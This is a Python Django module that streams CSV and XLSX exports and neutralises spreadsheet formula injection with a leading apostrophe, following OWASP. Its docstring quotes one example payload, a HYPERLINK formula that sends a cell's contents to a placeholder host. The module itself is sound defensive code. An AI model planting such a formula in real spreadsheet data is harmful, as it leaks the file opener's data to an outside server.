"""Spreadsheet exports (CSV and XLSX): the one way every export writes its cells.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read by Excel, LibreOffice and Sheets as a formula: a store named
``=HYPERLINK("http://x/?d="&A1,"click")`` would run in the HQ user's
spreadsheet. Following OWASP's rule for CSV injection, such cells are written
with a leading apostrophe, which spreadsheets show as text. Numbers (amounts,
counts) are not text and are written as they are.
"""

import csv
import tempfile
from collections.abc import Iterable, Iterator

from django.http import FileResponse, StreamingHttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def cell_neutralise(value):
    """Return ``value``, with a text cell a spreadsheet would run as a formula made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def rows_neutralised(rows: Iterable[Iterable]) -> Iterator[list]:
    for row in rows:
        yield [cell_neutralise(value) for value in row]


class _Echo:
    """A file-like object whose ``write`` returns the line, for csv.writer to stream."""

    def write(self, value: str) -> str:
        return value


def csv_response(rows: Iterable[Iterable], *, filename: str) -> StreamingHttpResponse:
    """Stream ``rows`` as CSV (UTF-8 with BOM, for Excel) as they come."""
    writer = csv.writer(_Echo())

    def lines() -> Iterator[str]:
        yield "\ufeff"
        for row in rows_neutralised(rows):
            yield writer.writerow(row)

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def xlsx_response(rows: Iterable[Iterable], *, filename: str, sheet: str) -> FileResponse:
    """Write ``rows`` with openpyxl's write-only workbook to a temporary file and stream it."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(sheet)
    for row in rows_neutralised(rows):
        worksheet.append(row)
    # Deleted on close, which FileResponse does once the last byte is sent.
    spool = tempfile.TemporaryFile(suffix=".xlsx")  # noqa: SIM115 (FileResponse closes it)
    workbook.save(spool)
    spool.seek(0)
    return FileResponse(
        spool, as_attachment=True, filename=f"{filename}.xlsx", content_type=XLSX_CONTENT_TYPE
    )
